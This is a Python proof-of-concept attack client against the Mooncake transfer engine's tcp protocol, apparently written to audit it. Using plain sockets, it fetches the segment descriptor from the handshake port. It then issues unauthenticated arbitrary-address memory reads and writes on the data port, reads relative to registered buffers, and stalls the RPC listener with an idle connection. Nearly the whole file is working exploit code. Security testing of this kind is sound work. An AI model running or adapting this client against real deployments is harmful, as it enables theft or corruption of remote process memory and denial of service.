"""A hostile client of a Mooncake transfer engine (tcp protocol, P2P
handshake) that knows only the owner's host and RPC port (the port in its
session name "host:port"). Plain sockets; no Mooncake code.

    mooncake_rogue.py HOST RPC_PORT CMD [CMD...]
      meta                     ask the handshake port for the segment descriptor
      read:ADDR:LEN[:v1]       read LEN bytes at the owner's ADDR (hex) over the tcp data port
      write:ADDR:TEXT[:v1]     write TEXT there
      stall:SECONDS            hold a silent connection to the RPC port while a
                               second one asks for the descriptor; prints how long it took
      reg:OFF:LEN              read (OFF, LEN) relative to the first registered buffer

The two wire formats, as the engine's sources define them:
  handshake (common.h writeString/readString; transfer_metadata_plugin.cpp
  SocketHandShakePlugin): an 8-byte length (the type byte included), a type
  byte (0 Connection, 1 Metadata, 2 Notify, 3 Probe), then JSON. The reply to
  Metadata is the local segment descriptor (TransferMetadata::receivePeerMetadata,
  encodeSegmentDesc): name, protocol, tcp_data_port, tcp_proto_version and,
  for tcp, every registered buffer's addr and length.
  data (tcp_transport_session_impl.h ServerSession): a 24-byte SessionHeader
  {u64 size, u64 addr, u8 opcode, 7 pad}, opcode 0 READ / 1 WRITE; with bit
  0x80 ("v2") the server answers with an 8-byte status frame (0x4D435456 << 32
  | 0 ok, | 1 address rejected) before READ data / after WRITE data; in v1 a
  rejection just closes the connection."""
from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time
from typing import Any, Dict, Optional, Tuple

TIMEOUT = 5.0
MAGIC = 0x4D435456 << 32
STATUS = {MAGIC | 0: "ok", MAGIC | 1: "address rejected"}


def recv_exact(s: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            break
        buf += chunk
    return buf


def handshake(host: str, port: int, kind: int, body: Dict[str, Any]) -> Tuple[int, Any]:
    payload = json.dumps(body).encode()
    with socket.create_connection((host, port), timeout=TIMEOUT * 3) as s:
        s.sendall(struct.pack("<Q", len(payload) + 1) + bytes([kind]) + payload)
        (n,) = struct.unpack("<Q", recv_exact(s, 8))
        data = recv_exact(s, n)
        s.shutdown(socket.SHUT_WR)
    return data[0], json.loads(data[1:].decode() or "null")


DESC: Dict[str, Any] = {}


def descriptor(host: str, port: int) -> Dict[str, Any]:
    if not DESC:
        _, d = handshake(host, port, 1, {})
        DESC.update(d)
    return DESC


def data_op(host: str, port: int, op: int, addr: int, size: int, payload: bytes, v2: bool) -> str:
    """One request on a fresh connection to the data port; returns what happened."""
    hdr = struct.pack("<QQB7x", size, addr, op | (0x80 if v2 else 0))
    with socket.create_connection((host, port), timeout=TIMEOUT) as s:
        s.sendall(hdr)
        try:
            if op == 1:  # WRITE
                s.sendall(payload)
            status: Optional[str] = None
            if v2:
                frame = recv_exact(s, 8)
                if len(frame) < 8:
                    return "connection closed, no status frame"
                (v,) = struct.unpack("<Q", frame)
                status = STATUS.get(v, "unknown status 0x%x" % v)
                if v != MAGIC:
                    return "status frame: %s" % status
            if op == 0:  # READ
                got = recv_exact(s, size)
                if len(got) < size:
                    return "connection closed after %d of %d bytes%s" % (
                        len(got), size, "" if status is None else " (status frame: %s)" % status)
                text = got.split(b"\0")[0].decode("ascii", "replace")
                return "RETURNED %d bytes%s: hex=%s text=%r" % (size, "" if status is None else " (status %s)" % status,
                                                              got[:32].hex(), text[:64])
            if not v2:  # v1 WRITE: no answer either way; see whether the server closed the connection
                s.settimeout(0.5)
                try:
                    closed = s.recv(1) == b""
                except socket.timeout:
                    closed = False
                return "sent (v1: no acknowledgement; connection %s)" % ("closed by the owner" if closed else "left open")
            return "status frame: %s" % status
        except (ConnectionResetError, BrokenPipeError) as e:
            return "connection reset (%s)" % type(e).__name__
        except socket.timeout:
            return "no answer within %.0f s" % TIMEOUT


def main() -> int:
    host, rpc = sys.argv[1], int(sys.argv[2])
    for cmd in sys.argv[3:]:
        parts = cmd.split(":")
        try:
            if parts[0] == "meta":
                t, d = handshake(host, rpc, 1, {})
                DESC.update(d)
                bufs = [(b.get("name"), "0x%x" % b.get("addr", 0), b.get("length")) for b in d.get("buffers", [])]
                print("rogue: handshake Metadata request to %s:%d answered (type %d): name=%s protocol=%s "
                      "tcp_data_port=%s tcp_proto_version=%s buffers=%s" % (
                          host, rpc, t, d.get("name"), d.get("protocol"), d.get("tcp_data_port"),
                          d.get("tcp_proto_version"), bufs))
            elif parts[0] in ("read", "write", "reg"):
                d = descriptor(host, rpc)
                port = int(d["tcp_data_port"])
                v2 = not (len(parts) > 3 and parts[3] == "v1") and int(d.get("tcp_proto_version", 1)) >= 2
                if parts[0] == "reg":
                    b0 = d["buffers"][0]
                    addr, size = int(b0["addr"]) + int(parts[1], 0), int(parts[2], 0)
                    r = data_op(host, port, 0, addr, size, b"", v2)
                    print("rogue: read 0x%x len %d (registered buffer 0 + %s) %s: %s" % (
                        addr, size, parts[1], "v2" if v2 else "v1", r))
                elif parts[0] == "read":
                    addr, size = int(parts[1], 16), int(parts[2], 0)
                    print("rogue: read 0x%x len %d %s: %s" % (addr, size, "v2" if v2 else "v1",
                                                              data_op(host, port, 0, addr, size, b"", v2)))
                else:
                    addr, text = int(parts[1], 16), parts[2].encode() + b"\0"
                    print("rogue: write 0x%x %r %s: %s" % (addr, parts[2], "v2" if v2 else "v1",
                                                           data_op(host, port, 1, addr, len(text), text, v2)))
            elif parts[0] == "stall":
                secs = float(parts[1])
                idle = socket.create_connection((host, rpc), timeout=TIMEOUT)
                time.sleep(0.2)  # the listener is now blocked in its read of this connection
                t0 = time.monotonic()
                res: Dict[str, Any] = {}
                th = threading.Thread(target=lambda: res.update(r=handshake(host, rpc, 1, {})), daemon=True)
                th.start()
                th.join(secs)
                dt = time.monotonic() - t0
                idle.close()
                th.join(secs)
                print("rogue: with one silent connection open to %s:%d, another client's Metadata handshake %s "
                      "after %.1f s" % (host, rpc, "answered" if "r" in res else "had no answer", time.monotonic() - t0
                                        if "r" in res else dt))
        except Exception as e:  # a finding too: print it and go on
            print("rogue: %s: %s: %s" % (cmd, type(e).__name__, e))
        sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
